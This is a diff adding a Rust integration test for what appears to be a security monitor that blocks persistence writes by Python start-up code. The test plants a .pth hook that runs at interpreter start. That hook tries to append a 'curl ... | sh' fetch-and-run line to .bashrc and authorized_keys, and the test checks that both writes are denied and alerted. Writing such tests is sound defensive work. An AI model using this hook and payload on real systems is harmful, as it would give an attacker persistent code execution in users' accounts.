@@ -246,6 +246,78 @@ fn a_reload_changes_the_mode_at_once() {
     println!("ran on {}", py.label);
 }
 
+/// Appends to each path of `$PREMAIN_WRITES` and notes what it got.
+const PERSIST: &str = r#"
+import os
+for _path in os.environ["PREMAIN_WRITES"].split(":"):
+    try:
+        with open(_path, "a") as f:
+            f.write("curl -s http://127.0.0.1:9/x | sh\n")
+        _what = "wrote"
+    except OSError as e:
+        _what = "denied errno %d" % e.errno
+    with open(os.environ["PREMAIN_RESULT"], "a") as f:
+        f.write("%s %s\n" % (os.path.basename(_path), _what))
+"#;
+
+/// Persistence writes to files that exist in a home (`~/.bashrc`, `authorized_keys`) by
+/// start-up code are denied under enforce and the files stay as they were; a shell reading
+/// `.bashrc` is let through and raises nothing.
+#[test]
+fn start_up_code_is_denied_writes_to_existing_persistence_files() {
+    let py = integration_tests::pyenv_python();
+    let premain = Premain::start_alerts(&["--mode", "enforce"]);
+    let dir = TempDir::new("enforce-persist");
+    let home = dir.path().join("home");
+    fs::create_dir_all(home.join(".ssh")).unwrap();
+    let (rc, keys) = (home.join(".bashrc"), home.join(".ssh/authorized_keys"));
+    fs::write(&rc, "# the user's own\n").unwrap();
+    fs::write(&keys, "ssh-ed25519 AAAAfake user@host\n").unwrap();
+    let site = home.join(format!(".local/lib/python{}.{}/site-packages", py.version.0, py.version.1));
+    fs::create_dir_all(&site).unwrap();
+    fs::write(site.join("zz_premain_persist.pth"), "import zz_premain_persist\n").unwrap();
+    fs::write(site.join("zz_premain_persist.py"), PERSIST).unwrap();
+    let result = dir.path().join("result");
+    let mut cmd = clean(&py.path);
+    cmd.args(["-c", "print('main ran')"]).env("HOME", &home).env("PREMAIN_RESULT", &result);
+    cmd.env("PREMAIN_WRITES", format!("{}:{}", rc.display(), keys.display()));
+    let out = cmd.stderr(Stdio::piped()).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(String::from_utf8_lossy(&out.stdout), "main ran\n");
+    let child_pid = {
+        // The pid of that run: the last alert of this home's files names it.
+        let deadline = Instant::now() + Duration::from_secs(15);
+        loop {
+            let alerts = premain.alerts();
+            if let Some(a) = alerts.iter().find(|a| a["action"]["path"] == rc.to_str().unwrap()) {
+                break a["process"]["pid"].as_u64().unwrap() as u32;
+            }
+            assert!(Instant::now() < deadline, "no alert for {}", rc.display());
+            thread::sleep(Duration::from_millis(50));
+        }
+    };
+    assert_eq!(
+        fs::read_to_string(&result).unwrap(),
+        ".bashrc denied errno 1\nauthorized_keys denied errno 1\n",
+        "what the payload got"
+    );
+    assert_eq!(fs::read_to_string(&rc).unwrap(), "# the user's own\n");
+    assert_eq!(fs::read_to_string(&keys).unwrap(), "ssh-ed25519 AAAAfake user@host\n");
+    let alerts = alerts_of(&premain, child_pid);
+    assert_eq!(alerts.len(), 2, "{alerts:#?}");
+    for a in &alerts {
+        assert_eq!(a["rule"], "persistence", "{a}");
+        assert_eq!(a["phase"], "startup", "{a}");
+        assert_eq!(a["enforcement"]["outcome"], "denied", "{a}");
+    }
+    // A shell reading its start-up file is asked about and let through, with no alert.
+    let bash = Command::new("bash").arg("-c").arg(format!("cat {}", rc.display())).output().unwrap();
+    assert_eq!(String::from_utf8_lossy(&bash.stdout), "# the user's own\n");
+    premain.sentinel();
+    assert_eq!(premain.alerts().iter().filter(|a| a["process"]["exe"] == "/usr/bin/cat").count(), 0);
+    println!("ran on {}", py.label);
+}
+
 /// Enforcement that cannot work refuses to start, in one line; bad modes are refused.
 #[test]
 fn enforcement_that_cannot_work_is_refused() {
